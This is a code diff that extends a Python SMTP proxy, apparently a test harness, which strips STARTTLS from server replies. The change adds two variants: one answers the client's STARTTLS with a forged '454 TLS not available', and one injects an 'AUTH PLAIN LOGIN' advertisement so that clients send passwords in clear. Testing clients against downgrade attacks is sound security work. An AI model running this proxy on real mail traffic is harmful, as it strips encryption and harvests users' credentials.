@@ -12,6 +12,17 @@ Every connection is forwarded to the real server. Server replies are relayed lin
 multi-line 250 reply the ``STARTTLS`` line is removed and the continuation markers are fixed so
 the reply stays well-formed, exactly what an attacker on the path would do. Should the client
 send STARTTLS anyway, both directions turn into a plain byte pipe from then on.
+
+Two variants of the same attack:
+
+    StripStartTLS(host, port, refuse_starttls=True)   # STARTTLS stays offered, but the client's
+                                                      # STARTTLS gets '454 TLS not available'
+    StripStartTLS(host, port, advertise_auth='PLAIN LOGIN')
+                                                      # adds 'AUTH PLAIN LOGIN' to the EHLO reply
+                                                      # when the server offers none in clear, as
+                                                      # a password harvester would
+
+    mitm.refused         # how many STARTTLS commands were answered with 454
 """
 from __future__ import annotations
 
@@ -22,9 +33,13 @@ __all__ = ['StripStartTLS']
 
 
 class StripStartTLS:
-    def __init__(self, upstream_host: str, upstream_port: int, *, host: str = '127.0.0.1'):
+    def __init__(self, upstream_host: str, upstream_port: int, *, host: str = '127.0.0.1',
+                 refuse_starttls: bool = False, advertise_auth: str | None = None):
         self.upstream = (upstream_host, upstream_port)
         self.host = host
+        self.refuse_starttls = refuse_starttls
+        self.advertise_auth = advertise_auth
+        self.refused = 0
         self._listener = socket.create_server((host, 0))
         self.port = self._listener.getsockname()[1]
         self.stripped = 0
@@ -71,7 +86,7 @@ class StripStartTLS:
             with self._lock:
                 self.connections += 1
                 self._sockets += [client, server]
-            state = {'raw': False}
+            state = {'raw': False, 'send_lock': threading.Lock()}
             threading.Thread(target=self._client_to_server, args=(client, server, state), daemon=True).start()
             threading.Thread(target=self._server_to_client, args=(server, client, state), daemon=True).start()
 
@@ -84,13 +99,26 @@ class StripStartTLS:
                     break
                 with self._lock:
                     self.client_bytes += data
-                if not state['raw']:
-                    line += data
-                    *commands, rest = bytes(line).split(b'\r\n')
-                    if any(command.strip().upper() == b'STARTTLS' for command in commands):
+                if state['raw']:
+                    server.sendall(data)
+                    continue
+                # Line by line until STARTTLS, so that a STARTTLS can be answered here instead.
+                line += data
+                *commands, rest = bytes(line).split(b'\r\n')
+                line = bytearray(rest)
+                for command in commands:
+                    if command.strip().upper() == b'STARTTLS':
+                        if self.refuse_starttls:
+                            with self._lock:
+                                self.refused += 1
+                            with state['send_lock']:
+                                client.sendall(b'454 4.7.0 TLS not available due to temporary reason\r\n')
+                            continue
                         state['raw'] = True
-                    line = bytearray(rest[-1024:])
-                server.sendall(data)
+                    server.sendall(command + b'\r\n')
+                if state['raw'] and line:
+                    server.sendall(bytes(line))
+                    line = bytearray()
         except OSError:
             pass
         finally:
@@ -114,7 +142,8 @@ class StripStartTLS:
                     reply.append(line)
                     if len(line) >= 4 and line[3:4] == b'-':
                         continue  # more lines of this reply follow
-                    client.sendall(self._rewrite(reply))
+                    with state['send_lock']:
+                        client.sendall(self._rewrite(reply))
                     reply = []
         except OSError:
             pass
@@ -123,10 +152,14 @@ class StripStartTLS:
 
     def _rewrite(self, reply: list[bytes]) -> bytes:
         if len(reply) > 1 and reply[0][:3] == b'250':
-            kept = [reply[0]] + [line for line in reply[1:] if line[4:].strip().upper() != b'STARTTLS']
+            kept = list(reply) if self.refuse_starttls else \
+                [reply[0]] + [line for line in reply[1:] if line[4:].strip().upper() != b'STARTTLS']
             if len(kept) != len(reply):
                 with self._lock:
                     self.stripped += 1
+            if self.advertise_auth and not any(line[4:].upper().startswith(b'AUTH') for line in kept[1:]):
+                kept.append(b'250 AUTH ' + self.advertise_auth.encode('ascii'))
+            if kept != reply:
                 kept = [line[:3] + b'-' + line[4:] for line in kept[:-1]] + [kept[-1][:3] + b' ' + kept[-1][4:]]
                 reply = kept
         return b''.join(line + b'\r\n' for line in reply)
